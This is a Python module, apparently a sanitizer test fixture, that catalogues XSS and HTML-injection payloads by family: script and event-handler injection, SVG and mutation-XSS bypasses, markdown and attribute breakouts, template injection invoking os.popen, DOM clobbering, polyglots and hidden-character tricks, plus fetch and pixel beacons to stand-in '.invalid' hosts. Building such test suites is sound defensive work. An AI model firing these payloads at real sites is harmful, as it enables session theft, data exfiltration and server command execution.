"""Ways to get a script, a style, a frame or a request into somebody else's page; each tells where it came from.

`§` stands for a word that is different in each place where a payload is put, so that whatever runs says which payload
it was and where it stood. Hosts are under `invalid`, which no network knows.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Payload:
    """One way in."""

    family: str
    text: str
    open: bool = False
    """Whether it opens something that it does not close, so that a page would swallow what follows."""
    hidden: bool = False
    """Whether it needs a character that no value in a file may hold; Markdown and other files may."""

    @property
    def leaves(self) -> bool:
        """Whether it leads the reader elsewhere, so that nothing more of a page would be seen."""
        return "location=" in self.text

    def said(self, word: str) -> str:
        """The payload with its word."""
        return self.text.replace("§", word)


def _family(name: str, *texts: str, open: bool = False, hidden: bool = False) -> list[Payload]:
    return [Payload(name, text, open, hidden) for text in texts]


PAYLOADS: tuple[Payload, ...] = (
    *_family(
        "script",
        "<script>alert('§')</script>",
        "<ScRiPt\t>console.log('ran §')</sCrIpT >",
        "<script src=https://§.invalid/s.js></script>",
        "<script src=//§.invalid/s.js async></script>",
        "<script src=\"data:text/javascript,alert('§')\"></script>",
        "<script type=module>window.ran='§'</script>",
        "<script type=module src=https://§.invalid/m.js></script>",
        "<scr<script>ipt>alert('§')</scr</script>ipt>",
        "<<script>alert('§')//<</script>",
        "<script/x>document.documentElement.dataset.ran='§'</script>",
        "<script>fetch('https://§.invalid/stolen')</script>",
        "<script>new Image().src='https://§.invalid/pixel'</script>",
        "<script>import('data:text/javascript,alert(\"§\")')</script>",
        "<script>setTimeout('alert(\"§\")')</script>",
        "<script>location='https://§.invalid/away'</script>",
        '<script type=importmap>{"imports":{"x":"data:text/javascript,alert(\'§\')"}}</script>'
        "<script type=module>import 'x'</script>",
    ),
    *_family(
        "event",
        "<img src=x onerror=alert('§')>",
        "<img/src=x/onerror=alert('§')>",
        "<img src=x onerror=\"&#97;&#x6c;ert&lpar;'§')\">",
        "<img src='x' title='>' onerror=\"alert('§')\">",
        '<img """><script>alert(\'§\')</script>">',
        "<image src=x onerror=alert('§')>",
        "<img src=x:x ONERROR\n=\nalert('§')>",
        "<video src=x onerror=alert('§')></video>",
        "<video><source src=x onerror=alert('§')></video>",
        "<audio src=x onerror=alert('§')></audio>",
        "<body onload=alert('§')>",
        "<body onpageshow=alert('§')>",
        "<p onmouseover=alert('§')>hover</p>",
        "<p onclick=\"window.ran='§'\">click</p>",
        "<details open ontoggle=alert('§')><summary>open</summary></details>",
        "<b tabindex=0 autofocus onfocus=alert('§')>focus</b>",
        "<a href='#' onclick=\"alert('§')\">click</a>",
        "<style>@keyframes k{}</style><i style='animation:k 1s' onanimationstart=alert('§')>move</i>",
        "<marquee loop=1 width=0 onfinish=alert('§')>slide</marquee>",
        "<input autofocus onfocus=alert('§')>",
        "<select autofocus onfocus=alert('§')></select>",
        "<dialog open onbeforetoggle=alert('§')>talk</dialog>",
        "<x-y onpointerenter=alert('§') tabindex=1>custom</x-y>",
        "<ruby onpointerover=alert('§')>a<rt>b</rt></ruby>",
        "<td onmouseover=alert('§')>cell</td>",
    ),
    *_family(
        "svg",
        "<svg onload=alert('§')></svg>",
        "<svg><script>alert('§')</script></svg>",
        "<svg><script>alert&lpar;'§'&rpar;</script></svg>",
        "<svg><script href=\"data:,alert('§')\"/></svg>",
        "<svg><animate onbegin=alert('§') attributeName=x dur=1s></svg>",
        "<svg><a xlink:href=\"javascript:alert('§')\"><text y=20>link</text></a></svg>",
        "<svg><a><set attributeName=href to=\"javascript:alert('§')\"/><text y=20>set</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=alert('§')></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='u' onload='alert(1)'/>#u\"/>"
        "<image href='https://§.invalid/use.png'/></svg>",
        "<svg><style>@import 'https://§.invalid/svg.css';</style></svg>",
    ),
    *_family(
        "mutation",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert('§')&gt;\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert('§')>\">",
        "<svg><style><img src=x onerror=alert('§')></style></svg>",
        "<math><mi><style><p title=\"</style><img src=x onerror=alert('§')>\"></style></mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('§')>\"></noscript>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        "<path id=\"</style><img onerror=alert('§') src=x>\">",
        "<table><td><svg><desc><table><svg><title><img src=x onerror=alert('§')></title></svg></table></desc></svg>",
        "<a title='`<img src=x onerror=alert(\"§\")>`'>quote</a>",
        "<math href=\"javascript:alert('§')\">formula</math>",
        "<svg><desc><p><style><a title=\"</style><img src=x onerror=alert('§')>\"></style></desc></svg>",
    ),
    *_family(
        "frame",
        "<iframe srcdoc=\"<script>parent.alert('§')</script>\"></iframe>",
        "<iframe srcdoc=\"&lt;img src=x onerror=parent.alert('§')&gt;\"></iframe>",
        "<iframe src=\"javascript:alert('§')\"></iframe>",
        "<iframe src=https://§.invalid/frame></iframe>",
        "<iframe src=\"data:text/html,<script>console.log('ran §')</script>\"></iframe>",
        "<object data=\"data:text/html,<script>console.log('ran §')</script>\"></object>",
        "<object data=https://§.invalid/object></object>",
        "<embed src=https://§.invalid/embed>",
        "<frameset onload=alert('§')></frameset>",
        "<applet code=§ archive=https://§.invalid/a.jar></applet>",
    ),
    *_family(
        "head",
        "<base href=https://§.invalid/><img src=relative.png>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert('§')\">",
        "<link rel=stylesheet href=https://§.invalid/l.css>",
        "<link rel=prefetch href=https://§.invalid/next>",
        "<link rel=preload as=script href=https://§.invalid/p.js>",
        "<link rel=manifest href=https://§.invalid/m.json>",
    ),
    *_family(
        "form",
        "<form action=\"javascript:alert('§')\"><button>send</button></form>",
        "<form id=f§></form><button form=f§ formaction=\"javascript:alert('§')\">send</button>",
        "<form action=https://§.invalid/form><input name=a><button>send</button></form>",
        "<button formaction=\"javascript:alert('§')\" form=filters>send</button>",
        "<input type=image src=https://§.invalid/button.png>",
        "<isindex type=image src=x onerror=alert('§')>",
        "<keygen autofocus onfocus=alert('§')>",
    ),
    *_family(
        "address",
        "<a href=\"javascript:alert('§')\">link</a>",
        "<a href=\"jav&#x09;ascript:alert('§')\">tab</a>",
        "<a href=\"java\nscript:alert('§')\">line</a>",
        "<a href=\"&#106;avascript&colon;alert('§')\">entity</a>",
        "<a href=\" &#1; javascript:alert('§')\">control</a>",
        "<a href=\"JaVaScRiPt:%61lert('§')\">percent</a>",
        "<a href=\"vbscript:MsgBox('§')\">basic</a>",
        "<a href=\"data:text/html,<script>alert('§')</script>\">data</a>",
        '<a href="blob:https://§.invalid/a">blob</a>',
        "<a href=https://a.invalid/ ping=https://§.invalid/ping>ping</a>",
        "<a href=\"view-source:javascript:alert('§')\">source</a>",
        "<area href=\"javascript:alert('§')\">area</area>",
        "<blockquote cite=\"javascript:alert('§')\">cited</blockquote>",
    ),
    *_family(
        "load",
        "<img src=https://§.invalid/i.png>",
        "<img src=x srcset='https://§.invalid/s.png 1x'>",
        "<picture><source srcset=https://§.invalid/p.png><img src=x></picture>",
        "<video poster=https://§.invalid/poster.png></video>",
        "<video><track default src=https://§.invalid/t.vtt></video>",
        "<audio src=https://§.invalid/a.mp3 autoplay></audio>",
        "<table background=https://§.invalid/t.png><tr><td background=https://§.invalid/c.png>x</td></tr></table>",
        "<input type=image src=x lowsrc=https://§.invalid/low.png>",
    ),
    *_family(
        "style",
        "<style>@import 'https://§.invalid/i.css';</style>",
        "<style>*{background:url(https://§.invalid/b.png)}</style>",
        "<b style=\"background:url('https://§.invalid/b.png')\">bold</b>",
        "<b style=\"width:expression(alert('§'))\">old</b>",
        '<div style="position:fixed;inset:0;background:red" title=§>over everything</div>',
        ";}</style><img src=x onerror=alert('§')><style>{",
        "red;background:url(https://§.invalid/r.png)",
        "url(\"javascript:alert('§')\")",
        "tint-00000000{}*{background:url(https://§.invalid/t.png)}",
    ),
    *_family(
        "markdown",
        "[link](javascript:alert('§'))",
        "[link](<javascript:alert('§')>)",
        "[link](JAVA&Tab;SCRIPT:alert('§'))",
        '[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "§")',
        "[link][§]\n\n[§]: javascript:alert('§')",
        "![picture](javascript:alert('§'))",
        "![§\" onerror=\"alert('§')](x.png)",
        '![picture](x.png "§\\" onerror=alert(\'§\') x=\\"")',
        "<javascript:alert('§')>",
        "<https://a.invalid/\"onmouseover=\"alert('§')>",
        '[link](https://a.invalid/"onmouseover=alert(\'§\') "title" onclick="alert(\'§\')")',
        "Note[^§].\n\n[^§]: <img src=x onerror=alert('§')>",
        "[^\"><img src=x onerror=alert('§')>]\n\n[^\"><img src=x onerror=alert('§')>]: note",
        "# Heading {onclick=alert('§') #§}",
        '*word*{: onclick="alert(\'§\')" style="background:url(https://§.invalid/)" }',
        "```html onclick=alert('§')\n<script>alert('§')</script>\n```",
        "```\"onmouseover=alert('§')\ncode\n```",
        "<div markdown=1>\n<script>alert('§')</script>\n</div>",
        "| <img src=x onerror=alert('§')> |\n|---|\n| <script>alert('§')</script> |",
        "`<script>alert('§')</script>`",
        "**<img src=x onerror=alert('§')>**",
        "Term\n: <svg onload=alert('§')>",
        '--8<-- "§" ![[§]] {!../../student.yml!} [TOC]',
    ),
    *_family(
        "breakout",
        "\"><script>alert('§')</script>",
        "'><script>alert('§')</script>",
        '" onmouseover="alert(\'§\')" x="',
        "' onmouseover='alert(\"§\")' x='",
        "x onmouseover=alert('§') x=",
        "</title><script>alert('§')</script>",
        "</textarea><script>alert('§')</script>",
        "</style><script>alert('§')</script>",
        "</noscript><script>alert('§')</script>",
        "</template><img src=x onerror=alert('§')>",
        "</script><script>alert('§')</script>",
        "--><script>alert('§')</script><!--x-->",
        "<!--><img src=x onerror=alert('§')>-->",
        "<!-- --!><img src=x onerror=alert('§')> -->",
        "]]><script>alert('§')</script>",
        "<![CDATA[><script>alert('§')</script>]]>",
        "<?xml version='1.0'?><?xml-stylesheet href=\"javascript:alert('§')\"?>",
        "<?php echo '§' ?><script>alert('§')</script>",
        "<!DOCTYPE x [<!ENTITY e '§'>]><img src=x onerror=alert('§')>",
        "<xmp></xmp><img src=x onerror=alert('§')>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert('§')>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert('§')>\"></title>",
        "<template shadowrootmode=open><img src=x onerror=alert('§')></template>",
        "<div><template shadowrootmode=open><script>alert('§')</script></template></div>",
    ),
    *_family(
        "string",
        "';alert('§')//",
        "\\';alert('§')//",
        "\";alert('§');\"",
        '"},"x":{"__proto__":"§"},"y":"</script><script>alert(\'§\')</script>"',
        "\u2028alert('§')\u2029//",
        "${alert('§')} #{alert('§')} @{alert('§')}",
        "{{ '<img src=x onerror=alert(\"§\")>' | safe }}{% raw %}<script>alert('§')</script>{% endraw %}",
        "{{ cycler.__init__.__globals__.os.popen('echo §') }}{% include 'portfolio.html' %}",
        "{{constructor.constructor(\"alert('§')\")()}}",
        "<%= '§' %><script>alert('§')</script>",
        "%3Cscript%3Ealert('§')%3C/script%3E",
        "&lt;img src=x onerror=alert('§')&gt;",
        "&amp;lt;img src=x onerror=alert('§')&amp;gt;",
        "\\u003cimg src=x onerror=alert('§')\\u003e \\x3cscript\\x3ealert('§')\\x3c/script\\x3e",
        "+ADw-script+AD4-alert('§')+ADw-/script+AD4-",
        "＜script＞alert('§')＜/script＞",
        "<ſcript>alert('§')</ſcript> <ſcript src=//§.invalid/k.js></ſcript> <ımg src=x onerror=alert('§')>",
        "\u2067<script>alert('§')</script>\u2069",
        "\u200f\"\u200e><script>alert('§')</script>",
    ),
    *_family(
        "clobber",
        "<a id=__config name=__config href=https://§.invalid/>{}</a>",
        "<form id=document name=location><input name=cookie value=§><input name=body></form>",
        "<img name=querySelector id=alert alt=§><a id=__search name=__palette>§</a>",
        "<p id=content class=md-search data-md-component=search>§</p>",
        '<script id=__config type=application/json>{"search":"https://§.invalid/w.js","base":"https://§.invalid"}</script>',
        "<label for=__search data-md-component=palette>§</label><p class=mermaid>§</p>",
    ),
    *_family(
        "polyglot",
        "\"'-->]]></script></style></title></textarea></noscript></template><svg onload=alert('§')>",
        "javascript:/*'/*\"/*</script><img src=x onerror=alert('§')>//*/",
        "'\"()&%<b><img/src/onerror=alert('§')>;/*-/*`/*\\`/*%0D%0Aalert('§')//",
    ),
    *_family(
        "open",
        "<img src=x onerror=alert('§') title=",
        "<a href=\"javascript:alert('§')",
        "<script src=//§.invalid/o.js",
        "<script>alert('§')<!--<script>",
        "<!-- <script>alert('§')</script>",
        "<textarea><script>alert('§')</script>",
        "<title><script>alert('§')</script>",
        "<style><script>alert('§')</script>",
        "<plaintext><script>alert('§')</script>",
        "<noscript><script>alert('§')</script>",
        "<template><script>alert('§')</script>",
        "<select><option><script>alert('§')</script>",
        "<svg><![CDATA[<script>alert('§')</script>",
        open=True,
    ),
    *_family(
        "hidden",
        "<scr\0ipt>alert('§')</scr\0ipt>",
        "<img src=x on\x0cerror=alert('§')>",
        "<a href=\"java\0script:alert('§')\">null</a>",
        "\u202e<script>alert('§')</script>",
        "<\ufeffscript>alert('§')</script>",
        "\x02klzzwxh:0000\x03<script>alert('§')</script>\x02amp\x03",
        "\x1b]0;§\x07\x1b[2J<img src=x onerror=alert('§')>",
        hidden=True,
    ),
)
"""Whatever we could think of, family by family."""

REFRESH = '<meta http-equiv=refresh content="0;url=https://§.invalid/">'
"""A way to lead a reader elsewhere which no policy of a page stops: only cleaning and escaping do."""
